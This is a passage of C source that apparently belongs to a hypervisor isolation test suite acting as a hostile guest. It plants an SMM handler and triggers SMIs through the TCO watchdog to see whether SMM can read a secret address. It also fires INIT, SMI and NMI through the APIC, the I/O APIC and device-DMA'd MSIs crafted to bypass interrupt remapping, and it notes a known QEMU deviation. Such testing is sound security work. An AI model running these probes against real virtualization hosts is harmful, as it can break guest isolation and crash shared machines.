        hl(h, C, "TCO timer: not tried (%s)", cnt1 == 0xFFFF ? "no TCO registers" : "TCO_LOCK set");
    } else {
        houtl(smi_en_port, smi_en | 0x2001); /* TCO_EN, GBL_SMI_EN */
        houtw(tco + 0x12, 2);                /* 2 ticks of 0.6 s */
        houtw(tco + 0x0, 1);                 /* reload */
        houtw(tco + 0x4, 0x8);               /* TIMEOUT status cleared */
        before = d->ran;
        houtw(tco + 0x8, cnt1 & ~(uint16_t)(1u << 11)); /* TCO_TMR_HLT clear: it counts */
        uint64_t t0 = tsc_read(), per = hostile_tsc_per_us;
        uint16_t s = 0;
        while ((tsc_read() - t0) / per < 2500000) {
            s = hinw(tco + 0x4);
            if ((s & 0x8) || d->ran != before)
                break;
        }
        houtw(tco + 0x8, cnt1 | (1u << 11)); /* halted again before a second timeout resets */
        houtw(tco + 0x4, 0x8);
        houtw(tco + 0x12, tmr);
        houtw(tco + 0x8, cnt1);
        ran = wait_change(&d->ran, before, 20000) || d->ran != before;
        attempt(h, C, ran, "TCO timeout with TCO_EN (TCO1_STS 0x%x after %lu ms): handler ran %u time(s); timer halted "
                           "and put back",
                s, (tsc_read() - t0) / per / 1000, d->ran - before);
    }
    houtl(smi_en_port, smi_en);
    try_wrmsr(0xC0000080u, efer_view);

    uint32_t total = d->ran, faults = d->faults;
    uint64_t secret = d->faults ? 0 : d->secret;
    uint32_t mine = *(volatile uint32_t *)h->page;
    __builtin_memcpy((void *)(uintptr_t)SMM_ENTRY, saved_entry, 4096);
    __builtin_memcpy((void *)(uintptr_t)SMM_SAVE, saved_state, 512);
    if (own_entry)
        hostile_free(SMM_ENTRY, 1);
    if (own_save)
        hostile_free(SMM_SAVE & ~0xFFFull, 1);
    attempt(h, C, total != 0,
            "SMM handler: ran %u time(s) in all; our page says 0x%x%s; from SMM it read 0x%lx at 0x%lx (%u exception(s) "
            "in SMM: the nested tables refusing it); 0x38000 and the state-save area put back",
            total, mine, mine == 0x21494d53 ? " (\"SMI!\")" : "", secret, h->target_pa, faults);
    install_gp(false);
    if (h->cpus > 1)
        every_ap_answers(h, C, "the SMIs");
    audit(h, C, total ? secret : 0);
}

/* ---- INIT ---- */

void class_init(struct hostile *h)
{
    const char *C = "init";
    install_gp(true);
    uint32_t other = h->cpus > 1 ? h->apic_id[1] : 0xFF;
    static const struct {
        uint32_t high_other, low;
        const char *what;
    } icrs[] = {{1, 0x4500, "ICR INIT (assert) to the other CPU"},
                {1, 0x8500, "ICR INIT de-assert (level) to the other CPU"},
                {0, 0xC4500, "ICR INIT to all excluding self"},
                {0, 0x44500, "ICR INIT to self"},
                {0, 0x88500, "ICR INIT de-assert to all"}};
    for (unsigned i = 0; i < sizeof icrs / sizeof icrs[0]; i++) {
        if (icrs[i].high_other && h->cpus < 2) {
            hl(h, C, "%s: one CPU, no other", icrs[i].what);
            continue;
        }
        uint64_t g = gp_count();
        icr(icrs[i].high_other ? other << 24 : 0, icrs[i].low);
        stall_us(2000);
        bool alive = every_ap_answers(h, C, icrs[i].what);
        attempt(h, C, !alive, "%s (ICR 0x%x)%s: this CPU goes on, %s", icrs[i].what, icrs[i].low,
                gp_count() != g ? ", #GP" : "", alive ? "every AP answers" : "AN AP IS LOST");
    }
    static const struct {
        uint32_t reg;
        const char *what;
    } lvts[] = {{APIC_LVT_LINT0, "LVT LINT0 in INIT mode"}, {APIC_LVT_LINT1, "LVT LINT1 in INIT mode"}};
    for (unsigned i = 0; i < 2; i++) {
        uint32_t old = apic_read(lvts[i].reg);
        apic_write(lvts[i].reg, 0x500);
        uint32_t now = apic_read(lvts[i].reg);
        stall_us(30000);
        apic_write(lvts[i].reg, old);
        bool alive = every_ap_answers(h, C, lvts[i].what);
        attempt(h, C, !alive, "%s: 0x%x -> 0x500 (reads 0x%x) for 30 ms, put back: this CPU goes on, %s", lvts[i].what,
                old, now, alive ? "every AP answers" : "AN AP IS LOST");
    }
    /* The CPU's own writes to the APIC's window (found by an engineer attacking from the
     * docs alone): QEMU takes a 32-bit write to offsets 0x000-0x00F of the register page, or
     * anywhere in the rest of the 1 MiB window, as an interrupt message with the delivery
     * mode in its data, around the ICR's checks and interrupt remapping. INIT at the other
     * CPU (its APIC id in address bits 19:12), or at this one with one CPU. */
    {
        uint32_t target = h->cpus > 1 ? other : h->apic_id[0];
        static const struct {
            uint64_t at;
            const char *what;
        } writes[] = {{0, "the register page's offset 0"}, {1, "the window past the register page"}};
        for (unsigned i = 0; i < 2; i++) {
            uint64_t at = writes[i].at ? HOSTILE_APIC + 0x1000ull * (target ? target : 0xFF) : HOSTILE_APIC;
            uint64_t g = gp_count();
            hmmio_write(at, 0x500);
            stall_us(2000);
            bool alive = every_ap_answers(h, C, writes[i].what);
            attempt(h, C, !alive, "a CPU write of INIT (0x500) to %s, 0x%lx%s: this CPU goes on, %s", writes[i].what, at,
                    gp_count() != g ? ", #GP" : "", alive ? "every AP answers" : "AN AP IS LOST");
        }
    }
    install_gp(false);

    /* The I/O APIC: the PIT's entry in INIT mode, aimed at the other CPU (or this one). */
    {
        uint32_t target = h->cpus > 1 ? other : h->apic_id[0];
        uint32_t now = ioapic_pit_in_mode(target, 5);
        bool alive = every_ap_answers(h, C, "the I/O APIC's INIT");
        attempt(h, C, !alive, "I/O APIC: the PIT's entry in INIT mode to APIC id %u for 30 ms (reads 0x%x), put back: "
                "this CPU goes on, %s", target, now, alive ? "every AP answers" : "AN AP IS LOST");
    }

    /* From a device: edu writes an MSI to the interrupt window, in remappable format. The
     * handle is chosen so that the address bits a compatibility-format MSI takes its
     * destination from name a real CPU (the other one, or this one): a unit that does not
     * remap (interrupt remapping off) delivers the INIT there. With remapping on, the handle
     * names an entry the hypervisor never made present, and the message is blocked. */
    static const struct {
        uint32_t data;
        const char *what;
    } msis[] = {{0x500, "INIT"}, {0x200, "SMI"}, {0x400, "NMI"}};
    uint32_t handle = (h->cpus > 1 ? other : h->apic_id[0]) << 7; /* address bits 19:12 = handle bits 14:7 */
    uint64_t address = 0xFEE00010ull | ((uint64_t)handle << 5);
    for (unsigned i = 0; i < 3 && h->o->edus; i++) {
        *(volatile uint32_t *)h->dma = msis[i].data;
        bool ok = edu_move(h, h->dma_pa, 4, false) && edu_move(h, address, 4, true);
        stall_us(2000);
        bool alive = every_ap_answers(h, C, "the device's MSI");
        attempt(h, C, !alive,
                "edu DMA of an MSI, remappable format, address 0x%lx (handle 0x%x), data 0x%x (%s): DMA %s; this CPU "
                "goes on, %s",
                address, handle, msis[i].data, msis[i].what, ok ? "done" : "timed out",
                alive ? "every AP answers" : "AN AP IS LOST");
    }
    hl(h, C, "edu MSI in compatibility format with INIT (address 0xfee00000, data 0x500): skipped: QEMU 7.2 delivers "
             "those even with interrupt remapping on (a known deviation); it would reset the CPU it names");
    audit(h, C, 0);
}
